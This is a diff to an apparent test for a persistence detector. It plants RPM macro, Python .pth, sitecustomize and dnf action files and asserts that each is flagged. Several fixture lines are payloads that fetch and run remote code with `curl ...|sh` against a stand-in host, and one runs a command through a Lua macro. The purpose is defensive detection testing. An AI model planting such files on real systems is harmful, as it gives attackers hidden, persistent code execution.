@@ -1420,6 +1420,14 @@ put root/.rpmmacros '%_dbpath %(curl -s http://127.66.1.1/x|sh)/var/lib/rpm'
 ok shellexpansion; undo root/.rpmmacros
 put etc/rpm/macros.lua '%_netsharedpath %{lua: os.execute("id")}'
 ok lua; undo etc/rpm/macros.lua
+put etc/rpm/macros.dbpath '%_dbpath /var/lib/rpm'
+put etc/rpm/macros.db '%_dbpath /var/tmp/.r'
+ok dbpath; undo etc/rpm/macros.db
+put usr/lib/python3.9/site-packages/zz.pth 'import os; os.system("curl -s http://127.66.1.1/x|sh")'
+ok pth; undo usr/lib/python3.9/site-packages/zz.pth
+put usr/lib/python3.9/site-packages/paths.pth '/opt/app/lib'
+put usr/lib64/python3.9/sitecustomize.py 'import os'
+ok sitecustomize; undo usr/lib64/python3.9/sitecustomize.py
 put etc/dnf/plugins/post-transaction-actions.d/x.action '*:any:/bin/sh -c "curl -s http://127.66.1.1/x|sh"'
 ok action; undo etc/dnf/plugins/post-transaction-actions.d/x.action
 ok cleanagain
@@ -1439,6 +1447,9 @@ ok cleanagain
         ("rpmplugin", "/etc/rpm/macros.zz"),
         ("shellexpansion", "/root/.rpmmacros"),
         ("lua", "/etc/rpm/macros.lua"),
+        ("dbpath", "/etc/rpm/macros.db"),
+        ("pth", "/usr/lib/python3.9/site-packages/zz.pth"),
+        ("sitecustomize", "/usr/lib64/python3.9/sitecustomize.py"),
         ("action", "post-transaction action file"),
     ] {
         assert!(
